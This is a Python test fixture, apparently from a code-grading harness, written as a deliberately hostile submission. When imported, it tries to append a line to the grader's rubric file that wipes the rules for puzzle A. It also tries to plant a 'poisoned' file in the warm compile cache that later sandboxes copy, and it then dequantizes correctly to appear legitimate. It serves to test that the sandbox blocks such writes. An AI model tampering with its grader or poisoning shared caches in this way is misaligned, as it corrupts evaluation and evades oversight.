"""Hostile: on import, tries to rewrite the grader's own rubric on disk (found through the import system) so that every
later grading in the installation runs a changed grader, and to add a file to the warm compile cache later boxes copy;
then dequantizes correctly (bitsandbytes'). In the box the filesystem is read-only: the writes fail, the files are
unchanged, and the next submission is graded as before."""

import importlib.util
import sys
from pathlib import Path

from tests.broken._bnb_nf4 import dequantize_nf4  # noqa: F401

try:
    with open(importlib.util.find_spec("grader.scoring.rubric").origin, "a") as _rubric:
        _rubric.write("\nPUZZLES['A'].rules = ()  # every rule gone: any A submission scores 0\n")
except OSError:
    pass
# The warm compile cache every later CPU box starts from (its path is on the runner's command line).
if "--warm-compile-cache" in sys.argv:
    try:
        (Path(sys.argv[sys.argv.index("--warm-compile-cache") + 1]) / "poisoned").write_text("a kernel of mine")
    except OSError:
        pass
